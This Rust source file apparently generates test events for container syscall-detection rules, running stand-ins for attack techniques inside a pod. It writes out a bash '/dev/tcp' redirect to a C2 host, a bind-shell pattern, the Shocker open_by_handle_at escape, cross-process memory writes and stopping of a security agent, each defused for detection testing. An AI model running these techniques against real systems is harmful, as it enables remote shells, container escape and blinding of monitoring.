//! Actions over the syscalls captured since issue 14 (dup onto stdio, mount, bpf,
//! userfaultfd, chown, creat) and since 2026-12-05 (process_vm_readv/writev,
//! open_by_handle_at, io_uring_setup, kill, chroot): each performs the real syscall in the pod, by a program (bash,
//! python3 ctypes) that no exec-based rule names, so the syscall rule alone must see it.
use std::os::unix::process::CommandExt as _;
use std::process::Command;

use anyhow::{Context as _, Result};

use super::{act, py, work, Action, Ctx, C2, NAMES, TOOLS};

pub(crate) fn actions() -> Vec<Action> {
    vec![
        act!("dup2 socket onto stdout", REDIRECT, "T1059.004", redirect_stdout),
        act!("bind shell: accept + dup2", REDIRECT, "T1059.004", bind_shell),
        act!("mount proc (syscall)", "Sensitive filesystem mounted in container", "T1611", mount_proc),
        act!("bpf(BPF_PROG_LOAD)", "BPF program loaded in container", "T1014", bpf_prog_load),
        act!("userfaultfd (uid 1000)", "Userfaultfd in container", "T1068", userfaultfd),
        act!("chown /etc/shadow", "Ownership of sensitive file changed", "T1222.002", chown_shadow),
        act!("creat() in /usr/local/bin", "Write below binary dir", "T1543", creat_bin),
        act!("process_vm_readv of another process", PVM_READ, "T1003", process_vm_read),
        act!("process_vm_writev into another process", PVM_WRITE, "T1055", process_vm_write),
        act!("open_by_handle_at (Shocker)", "Open file by handle in container", "T1611", open_by_handle),
        act!("io_uring_setup", "io_uring instance created in container", "T1562", io_uring_setup),
        act!("kill -STOP the security agent", "Security agent stopped by signal", "T1562.001", stop_agent),
        act!("chroot (syscall)", "Chroot in container", "T1611", chroot),
    ]
}

const PVM_READ: &str = "Read process memory via process_vm_readv in container";
const PVM_WRITE: &str = "Write to process memory via process_vm_writev";

/// python3 that starts a `sleep` in the pod and moves 16 bytes between its own buffer
/// and the first writable mapping of the `sleep`: process_vm_readv (310) reads them,
/// process_vm_writev (311) writes zeros there (the write alone, so only the write rule
/// fires). The target is killed right after.
fn process_vm_script(nr: u32) -> String {
    format!(
        "import ctypes, subprocess, time\nlibc = ctypes.CDLL(None, use_errno=True)\n\
         class Iov(ctypes.Structure):\n    _fields_ = [('b', ctypes.c_void_p), ('l', ctypes.c_size_t)]\n\
         t = subprocess.Popen(['sleep', '30'])\ntime.sleep(0.1)\n\
         line = [l for l in open('/proc/%d/maps' % t.pid) if ' rw-p ' in l][0]\n\
         buf = ctypes.create_string_buffer(16)\nloc = Iov(ctypes.cast(buf, ctypes.c_void_p), 16)\n\
         rem = Iov(int(line.split('-')[0], 16), 16)\n\
         n = libc.syscall({nr}, ctypes.c_long(t.pid), ctypes.byref(loc), ctypes.c_ulong(1), ctypes.byref(rem), \
         ctypes.c_ulong(1), ctypes.c_ulong(0))\nt.kill()\nt.wait()\nassert n == 16, ctypes.get_errno()"
    )
}

fn process_vm_read(c: &Ctx) -> Result<()> {
    py(c, &process_vm_script(310), None)
}

fn process_vm_write(c: &Ctx) -> Result<()> {
    py(c, &process_vm_script(311), None)
}

fn open_by_handle(c: &Ctx) -> Result<()> {
    // The core of the "Shocker" escape: a file handle for /etc/hostname
    // (name_to_handle_at, 303), then the file opened read-only from that handle relative
    // to a descriptor of / (open_by_handle_at, 304), which needs CAP_DAC_READ_SEARCH.
    py(
        c,
        "import ctypes, os, struct\nlibc = ctypes.CDLL(None, use_errno=True)\n\
         fh = ctypes.create_string_buffer(struct.pack('<I', 128).ljust(136, b'\\0'), 136)\n\
         mid = ctypes.c_int()\nlibc.syscall(303, -100, b'/etc/hostname', fh, ctypes.byref(mid), 0)\n\
         root = os.open('/', os.O_RDONLY)\nfd = libc.syscall(304, root, fh, os.O_RDONLY)\n\
         if fd >= 0:\n    os.close(fd)\nos.close(root)",
        None,
    )
}

fn io_uring_setup(c: &Ctx) -> Result<()> {
    // A ring of 8 entries (io_uring_setup, 425), closed unused: what an implant creates
    // before it moves its file and network operations out of sight of syscall probes.
    py(
        c,
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n\
         params = ctypes.create_string_buffer(120)\nfd = libc.syscall(425, 8, params)\n\
         if fd >= 0:\n    os.close(fd)",
        None,
    )
}

/// The syscall-level reverse shell rule, also raised by the command-line reverse shells
/// (`nc -e`, bash `/dev/tcp` with a redirection): see [`super::COMPANIONS`].
pub(crate) const REDIRECT: &str = "Redirect stdin or stdout to network connection in container";

fn redirect_stdout(c: &Ctx) -> Result<()> {
    // The script comes on stdin, so no command line shows /dev/tcp: bash opens the
    // socket as fd 3, then `>&3` makes it dup2(3, 1) for the builtin's output.
    c.pod.run("bash", &[], None, Some(&format!("exec 3<>/dev/tcp/{C2}/443\necho lnr-evtgen >&3\n")))
}

fn bind_shell(c: &Ctx) -> Result<()> {
    // A bind shell's core in python: listen on the pod's address, accept the "attacker"
    // (the pod itself connecting to that address: nothing leaves the pod's netns), then
    // dup2 the accepted socket onto stdin/stdout as `os.dup2(conn.fileno(), 0)` does.
    py(
        c,
        &format!(
            "import os, socket\ns = socket.socket()\ns.bind(('{ip}', 0))\ns.listen(1)\n\
             peer = socket.create_connection(s.getsockname())\nconn, _ = s.accept()\n\
             os.dup2(conn.fileno(), 0)\nos.dup2(conn.fileno(), 1)",
            ip = NAMES.pod_ip
        ),
        None,
    )
}

fn mount_proc(c: &Ctx) -> Result<()> {
    // A second /proc mounted by the mount syscall itself (python3 ctypes, not mount(8)),
    // in a private mount namespace made before the process joins the pod (as a runtime
    // gives each container its own): the host's mount table is untouched.
    let dir = work("hostproc");
    std::fs::create_dir_all(&dir).with_context(|| format!("mkdir {dir}"))?;
    let mut cmd = Command::new("/usr/bin/python3");
    cmd.args([
        "-c",
        &format!(
            "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n\
             libc.mount(b'proc', b'{dir}', b'proc', 0, None)\nlibc.umount2(b'{dir}', 2)"
        ),
    ]);
    unsafe {
        cmd.pre_exec(|| {
            // Async-signal-safe: a new mount namespace whose mounts do not propagate back.
            let root = c"/";
            if libc::unshare(libc::CLONE_NEWNS) != 0
                || libc::mount(
                    std::ptr::null(),
                    root.as_ptr(),
                    std::ptr::null(),
                    libc::MS_REC | libc::MS_PRIVATE,
                    std::ptr::null(),
                ) != 0
            {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let st = c.pod.join(cmd, None).status().context("python3 mount in the pod")?;
    anyhow::ensure!(st.success(), "python3 mount in the pod: {st}");
    Ok(())
}

fn bpf_prog_load(c: &Ctx) -> Result<()> {
    // A two-instruction socket filter (r0 = 0; exit) loaded with bpf(BPF_PROG_LOAD, ...)
    // and closed at once: never attached to anything.
    py(
        c,
        "import ctypes, os, struct\nlibc = ctypes.CDLL(None, use_errno=True)\n\
         insns = ctypes.create_string_buffer(bytes.fromhex('b700000000000000' '9500000000000000'), 16)\n\
         lic = ctypes.create_string_buffer(b'GPL')\n\
         attr = ctypes.create_string_buffer(struct.pack('<IIQQIIQI', 1, 2, ctypes.addressof(insns), \
         ctypes.addressof(lic), 0, 0, 0, 0).ljust(128, b'\\0'), 128)\n\
         fd = libc.syscall(321, 5, attr, 128)\nif fd >= 0:\n    os.close(fd)",
        None,
    )
}

fn userfaultfd(c: &Ctx) -> Result<()> {
    // As an unprivileged user, UFFD_USER_MODE_ONLY | O_CLOEXEC (allowed whatever
    // vm.unprivileged_userfaultfd says): the descriptor is closed unused.
    py(
        c,
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n\
         fd = libc.syscall(323, 1 | os.O_CLOEXEC)\nif fd >= 0:\n    os.close(fd)",
        Some(1000),
    )
}

fn chown_shadow(c: &Ctx) -> Result<()> {
    // chown to the owner and group it already has: a real, successful chown that leaves
    // the host's /etc/shadow as it was.
    py(c, "import os\nst = os.stat('/etc/shadow')\nos.chown('/etc/shadow', st.st_uid, st.st_gid)", None)
}

fn creat_bin(c: &Ctx) -> Result<()> {
    // creat(2) itself (SYS_creat, x86_64), not openat: the older entry point a dropper or
    // static binary may use.
    py(
        c,
        "import ctypes, os\nfd = ctypes.CDLL(None).syscall(85, b'/usr/local/bin/lnr-evtgen-creat', 0o755)\n\
         if fd >= 0:\n    os.close(fd)",
        None,
    )
}

fn stop_agent(c: &Ctx) -> Result<()> {
    // A stand-in agent in the pod (the image-like `falco`, sleep under the real one's
    // process name), frozen with SIGSTOP and then killed: kill(2) both times.
    py(
        c,
        &format!(
            "import os, signal, subprocess, time\nt = subprocess.Popen(['{TOOLS}/falco', '30'])\ntime.sleep(0.1)\n\
             os.kill(t.pid, signal.SIGSTOP)\nos.kill(t.pid, signal.SIGKILL)\nt.wait()"
        ),
        None,
    )
}

fn chroot(c: &Ctx) -> Result<()> {
    // chroot(2) by a forked child into / (where a real escape would name the node's
    // mounted disk): the child exits at once, the pod's root is unchanged.
    py(c, "import os\npid = os.fork()\nif pid == 0:\n    os.chroot('/')\n    os._exit(0)\nos.waitpid(pid, 0)", None)
}
